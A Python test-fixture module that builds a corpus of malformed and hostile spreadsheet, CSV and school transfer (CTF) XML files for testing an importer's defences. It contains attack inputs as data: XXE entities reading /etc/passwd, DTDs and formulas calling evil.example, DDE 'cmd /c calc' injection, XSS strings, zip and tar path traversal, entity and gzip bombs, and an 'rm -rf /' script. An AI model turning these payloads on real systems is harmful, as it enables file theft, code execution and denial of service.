"""A corpus of malicious and broken files of our own making, each with a name that says what is wrong with it."""

import bz2
import gzip
import io
import lzma
import pickle
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from random import Random

import odf.opendocument
import odf.table
import odf.text
import openpyxl
import xlwt

HEAD = ("Surname", "Forename", "DOB", "UPN")
BODY = ("O’Neill", "Zoë", "03/09/2010", "R201100018042")
CSV = (",".join(HEAD) + "\r\n" + ",".join(BODY) + "\r\n").encode()
CTF = (
    '<?xml version="1.0" encoding="utf-8"?><CTfile><Header><CTFversion>25.0</CTFversion></Header><CTFpupilData><Pupil>'
    "<UPN>R201100018042</UPN><Surname>SMITH</Surname><Forename>Ann</Forename><DOB>2010-09-03</DOB><Sex>F</Sex>"
    "<BasicDetails><NCyearActual>11</NCyearActual></BasicDetails></Pupil></CTFpupilData></CTfile>"
)


def good() -> dict[str, bytes]:
    """Files that must be read: one of each kind."""
    return {"csv": CSV, "ctf": CTF.encode(), "xlsx": _xlsx(), "xls": _xls(), "ods": _ods()}


def _xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(HEAD)
    book.active.append(BODY)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xls() -> bytes:
    book = xlwt.Workbook()
    page = book.add_sheet("Pupils")
    for row, cells in enumerate((HEAD, BODY)):
        for place, cell in enumerate(cells):
            page.write(row, place, cell)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _ods() -> bytes:
    book = odf.opendocument.OpenDocumentSpreadsheet()
    page = odf.table.Table(name="Pupils")
    for row in (HEAD, BODY):
        line = odf.table.TableRow()
        for text in row:
            cell = odf.table.TableCell(valuetype="string")
            cell.addElement(odf.text.P(text=text))
            line.addElement(cell)
        page.addElement(line)
    book.spreadsheet.addElement(page)
    out = io.BytesIO()
    book.write(out)
    return out.getvalue()


def malicious() -> Iterator[tuple[str, bytes]]:
    """Every file, by name."""
    yield from _cut_and_flipped()
    yield from _containers()
    yield from _sheets()
    yield from _markup()
    yield from _texts()
    yield from _something_else()


def _cut_and_flipped() -> Iterator[tuple[str, bytes]]:
    for kind, content in good().items():
        for tenth in range(1, 10):
            yield f"{kind} cut at {tenth} tenths", content[: len(content) * tenth // 10]
        for number in range(6):
            die, spoilt = Random(f"{kind} {number}"), bytearray(content)
            for _ in range(1 + number * 4):
                spoilt[die.randrange(len(spoilt))] = die.randrange(256)
            yield f"{kind} with bytes flipped, {number}", bytes(spoilt)
        yield f"{kind} with a tail", content + b"\x00" * 5000
        yield f"{kind} with a head", b"\xff\xd8\xff" + content


def rezipped(content: bytes, changed: dict[str, bytes | None], more: list[tuple[str, bytes]] = ()) -> bytes:
    """The workbook with parts replaced, left out (None) or added, a name twice if need be."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = changed.get(name, old.read(name))
            if part is not None:
                new.writestr(name, part)
        for name, part in more:
            new.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _containers() -> Iterator[tuple[str, bytes]]:
    book = _xlsx()
    sheet = "xl/worksheets/sheet1.xml"
    for name in (
        "../../etc/cron.d/x",
        "/etc/passwd",
        "C:\\x",
        "xl\\..\\..\\x",
        "xl/a\x01b",
        "x" * 4000,
        "CON",
        "xl/💥",
    ):
        yield f"a part called {name[:20]!r}", rezipped(book, {}, [(name, b"x")])
    yield "a part twice", rezipped(book, {}, [("xl/workbook.xml", b"<workbook/>")])
    yield "a macro", rezipped(book, {}, [("xl/vbaProject.bin", b"x")])
    yield "a macro sheet", rezipped(book, {}, [("xl/macrosheets/sheet1.xml", b"<x/>")])
    yield "an embedded program", rezipped(book, {}, [("xl/embeddings/oleObject1.bin", b"MZ" * 500)])
    yield "a link to elsewhere", rezipped(book, {}, [("xl/externalLinks/externalLink1.xml", b"<externalLink/>")])
    yield "a zip in a zip", rezipped(book, {}, [("xl/media/x.zip", book)])
    yield "60 MB of nothing", rezipped(book, {sheet: b" " * 60_000_000})
    yield "40 MB of nothing in five parts", rezipped(book, {}, [(f"xl/p{n}.xml", b"0" * 8_000_000) for n in range(5)])
    yield "300 parts", rezipped(book, {}, [(f"xl/p{n}.xml", b"x") for n in range(300)])
    yield "no workbook", rezipped(book, {"xl/workbook.xml": None})
    yield "no sheet", rezipped(book, {sheet: None})
    yield "no types", rezipped(book, {"[Content_Types].xml": None})
    yield "an empty zip", rezipped(b"PK\x05\x06" + b"\x00" * 18, {})
    yield "a zip of a CSV", rezipped(b"PK\x05\x06" + b"\x00" * 18, {}, [("list.csv", CSV)])
    for place, words in (
        (6, "encrypted"),
        (18, "small when packed"),
        (22, "small when unpacked"),
        (26, "long of name"),
    ):
        spoilt = bytearray(book)
        for start in range(len(book) - 30):
            if book[start : start + 4] == b"PK\x03\x04":
                struct.pack_into("<H", spoilt, start + place, 1 if place == 6 else 7)
        yield f"parts that say they are {words}", bytes(spoilt)
    central = bytearray(book)
    for start in range(len(book) - 46):
        if book[start : start + 4] == b"PK\x01\x02":
            struct.pack_into("<I", central, start + 24, 10)
    yield "a directory that lies about sizes", bytes(central)
    everywhere = bytearray(book)
    for start in range(len(book) - 46):
        if book[start : start + 4] == b"PK\x01\x02":
            struct.pack_into("<I", everywhere, start + 42, 0)
    yield "all parts in one place", bytes(everywhere)
    yield "a picture that is a workbook too", b"GIF89a" + book
    yield "a program that is a workbook too", b"MZ" + b"\x00" * 60 + book


def _sheets() -> Iterator[tuple[str, bytes]]:
    book = _xlsx()
    begin = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    end = "</sheetData></worksheet>"

    def with_cells(cells: str, before: str = "") -> bytes:
        return rezipped(book, {"xl/worksheets/sheet1.xml": (before + begin + cells + end).encode()})

    bomb = "<!DOCTYPE l [" + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(9)) + "]>"
    cells = {
        "shared text number -1": '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>',
        "shared text number 9,999,999": '<row r="1"><c r="A1" t="s"><v>9999999</v></c></row>',
        "a number that is none": '<row r="1"><c r="A1"><v>NaN</v></c></row>',
        "a number without end": '<row r="1"><c r="A1"><v>1e999</v></c></row>',
        "a number of 10,000 digits": f'<row r="1"><c r="A1"><v>{"9" * 10_000}</v></c></row>',
        "a date in the year 100,000": '<row r="1"><c r="A1" t="d"><v>100000-01-01T00:00:00</v></c></row>',
        "a cell far away": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "a cell at A0": '<row r="0"><c r="A0"><v>1</v></c></row>',
        "a cell at nowhere": '<row r="1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>',
        "a row that is no number": '<row r="x"><c r="A1"><v>1</v></c></row>',
        "a formula": '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>1</v></c></row>',
        "a command": '<row r="1"><c r="A1" t="str"><v>=cmd|\'/c calc\'!A0</v></c></row>',
        "an error": '<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>',
        "a cell of 3 MB": f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 3_000_000}</t></is></c></row>',
        "a cell with a control": '<row r="1"><c r="A1" t="inlineStr"><is><t>a_x0000_b_x0008_</t></is></c></row>',
        "300 columns": '<row r="1">' + "".join('<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(300)) + "</row>",
        "25,000 rows": "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 25_001)),
        "1,000,000 empty rows": "<row/>" * 1_000_000,
        "tags 100,000 deep": "<row>" * 100_000,
        "an attribute of 1 MB": f'<row r="1" spans="{"1" * 1_000_000}"/>',
        "10,000 attributes": "<row " + " ".join(f'a{n}="1"' for n in range(10_000)) + "/>",
        "no end": "<row><c>",
        "a letter that is none": "<row>&#0;&#xFFFF;</row>",
    }
    for words, inside in cells.items():
        yield f"a sheet with {words}", with_cells(inside)
    yield "a sheet with a thousand million laughs", with_cells('<row r="1"><c r="A1"><v>&a8;</v></c></row>', bomb)
    yield (
        "a sheet that asks for a file",
        with_cells("<row><c><v>&x;</v></c></row>", '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    )
    yield "a sheet in UTF-16", rezipped(book, {"xl/worksheets/sheet1.xml": (begin + end).encode("utf-16")})
    yield "a sheet that is a picture", rezipped(book, {"xl/worksheets/sheet1.xml": b"\x89PNG" + b"\x00" * 50})
    yield (
        "dimensions that lie",
        with_cells('<row r="1"><c r="A1"><v>1</v></c></row>', "").replace(b"A1:D2", b"A1:XFD1048576"),
    )


def _markup() -> Iterator[tuple[str, bytes]]:
    head, rest = CTF.split("<CTfile>", 1)
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(9))
    documents = {
        "a thousand million laughs": f"{head}<!DOCTYPE CTfile [{laughs}]><CTfile>&a8;{rest}",
        "one long laugh": f'{head}<!DOCTYPE CTfile [<!ENTITY a "{"x" * 100_000}">]><CTfile>{"&a;" * 1000}{rest}',
        "a file asked for": f'{head}<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]><CTfile>&x;{rest}',
        "an address asked for": f'{head}<!DOCTYPE CTfile SYSTEM "http://evil.example/x.dtd"><CTfile>{rest}',
        "a parameter entity": f'{head}<!DOCTYPE CTfile [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><CTfile>{rest}',
        "an entity that is not there": f"{head}<CTfile>&nbsp;{rest}",
        "an inclusion": f'{head}<CTfile xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>{rest}',
        "a style sheet": f'{head}<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><CTfile>{rest}',
        "tags 200,000 deep": f"{head}<CTfile>" + "<a>" * 200_000,
        "tags 5,000 deep and closed": f"{head}<CTfile>" + "<a>" * 5000 + "</a>" * 5000 + rest,
        "an attribute of 11 MB": f'{head}<CTfile a="{"x" * 11_000_000}">{rest}',
        "a text of 11 MB": f"{head}<CTfile><x>{'x' * 11_000_000}</x>{rest}",
        "10,000 attributes": f"{head}<CTfile " + " ".join(f'a{n}="1"' for n in range(10_000)) + f">{rest}",
        "an attribute twice": f'{head}<CTfile a="1" a="2">{rest}',
        "a name space that is none": f"{head}<CTfile><x:y/>{rest}",
        "another encoding than it says": f"{head}<CTfile>{rest}".replace("utf-8", "utf-16"),
        "an encoding that is none": f"{head}<CTfile>{rest}".replace("utf-8", "no-such-thing"),
        "an encoding of mail": f"{head}<CTfile>{rest}".replace("utf-8", "utf-7"),
        "an encoding of mainframes": f"{head}<CTfile>{rest}".replace("utf-8", "cp500"),
        "two roots": CTF + "<CTfile/>",
        "a zero": CTF.replace("SMITH", "SM\x00ITH"),
        "no pupils but a million tags": f"{head}<CTfile>" + "<x/>" * 1_000_000 + "</CTfile>",
        "a date of the year 9999": CTF.replace("2010-09-03", "9999-99-99"),
        "a number of 10,000 digits": CTF.replace("<NCyearActual>11", "<NCyearActual>" + "9" * 10_000),
    }
    for words, document in documents.items():
        yield f"a transfer file with {words}", document.encode()
    for encoding in ("utf-16", "utf-32", "cp037", "utf-7"):
        yield f"a transfer file in {encoding}", CTF.encode(encoding)


def _texts() -> Iterator[tuple[str, bytes]]:
    line = CSV.split(b"\r\n")[0] + b"\r\n"
    texts = {
        "zeros": line + b"a\x00,b,c,d\r\n",
        "only zeros": b"\x00" * 5000,
        "only quotation marks": b'"' * 100_001,
        "a quotation mark that never ends": line + b'"a,b,c,d\r\n' * 3000,
        "a cell of 5 MB": line + b"x" * 5_000_000 + b",b,c,d\r\n",
        "100,000 columns": b"a," * 100_000 + b"\r\n",
        "30,000 rows": line + b"a,b,c,d\r\n" * 30_000,
        "line ends of three kinds": line + b"a,b,c,d\ra,b,c,d\na,b,c,d\r\n",
        "no line end": b"a,b,c,d " * 1000,
        "formulas": line + b"=1+1,+2,-3,@SUM(A1)\r\n=cmd|'/c calc'!A0,\t=1,\r=1,'=1\r\n",
        "a script": line + b'<script>alert(1)</script>,"><img src=x onerror=alert(1)>,{{7*7}},${7*7}\r\n',
        "controls": line + bytes(range(1, 9)) + b",\x1b[2J,\x7f,\x85\r\n",
        "half a letter": line + b"Zo\xc3,b,c,d\r\n",
        "two encodings": line + "Zoë".encode() + b",Zo\xeb,c,d\r\n",
        "a mark in the middle": line + b"\xef\xbb\xbfa,b,c,d\r\n",
        "overlong letters": line + b"\xc0\xae\xc0\xae,b,c,d\r\n",
        "lone surrogates": line + b"\xed\xa0\x80,b,c,d\r\n",
        "right to left": line + "\u202eevil\u202c,أحمد,שלום,x\r\n".encode(),
        "joined pictures": line + "👩‍👩‍👧‍👦,💥,c,d\r\n".encode(),
        "a thousand accents": line + ("e" + "\u0301" * 1000 + ",b,c,d\r\n").encode(),
        "noncharacters": line + "\ufffe\uffff,b,c,d\r\n".encode(),
        "an IP address of a heading": b"127.0.0.1;a;b\r\n1;2;3\r\n",
        "a separator that is a letter": b"sep=e\r\nSurnamee Forename\r\n",
        "a separator that is nothing": b"sep=\r\nSurname,Forename\r\n",
        "the same heading 150 times": b",".join([b"Surname"] * 150) + b"\r\n" + b",".join([b"x"] * 150) + b"\r\n",
        "headings alone": line,
        "rows of every length": line + b"".join(b",".join([b"x"] * n) + b"\r\n" for n in range(150)),
        "dates that are none": line + b"a,b,31/02/2012,x\r\na,b,00/00/0000,x\r\na,b,99999999999,x\r\na,b,1e999,x\r\n",
    }
    for words, text in texts.items():
        yield f"a text with {words}", text
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037", "cp1251", "shift_jis", "gb18030", "iso2022_jp"):
        yield f"a text in {encoding}", (",".join(HEAD) + "\r\nSmith,Zoe,03/09/2010,x\r\n").encode(encoding)
    yield "a UTF-16 of an odd number of bytes", CSV.decode().encode("utf-16")[:-1]
    yield "a UTF-16 of lone halves", b"\xff\xfe" + b"\x00\xd8" * 500


def _something_else() -> Iterator[tuple[str, bytes]]:
    pages = {
        "a spreadsheet of links (SYLK)": b'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("calc")\r\nE\r\n',
        "a table of DIF": b'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,1\r\n""\r\n',
        "a web page": b"<html><body><table><tr><td>Surname</td></tr></table></body></html>",
        "a web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\r\n",
        "a picture of markup": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "a letter": b"From: a@b\r\nSubject: pupils\r\n\r\nHello,\r\n",
        "a calendar": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
        "JSON": b'[{"surname": "x"}]',
        "deep JSON": b"[" * 200_000,
        "a pickle": pickle.dumps({"a": 1}),
        "a program": b"\x7fELF" + b"\x00" * 500,
        "a script": b"#!/bin/sh\nrm -rf /\n",
        "a PDF with a list in it": b"%PDF-1.7\n" + CSV,
        "gzip": gzip.compress(CSV),
        "bzip2": bz2.compress(CSV),
        "xz": lzma.compress(CSV),
        "a bomb of gzip": gzip.compress(b"\x00" * 50_000_000),
        "one byte": b"x",
        "spaces": b" " * 1_000_000,
        "line ends": b"\n" * 1_000_000,
        "noise": Random("noise").randbytes(200_000),
    }
    yield from pages.items()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../x"))
    yield "a tape archive that climbs", out.getvalue()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.sqlite3"
        with sqlite3.connect(path) as database:
            database.execute("CREATE TABLE pupil (surname TEXT)")
        database.close()
        yield "a database", path.read_bytes()
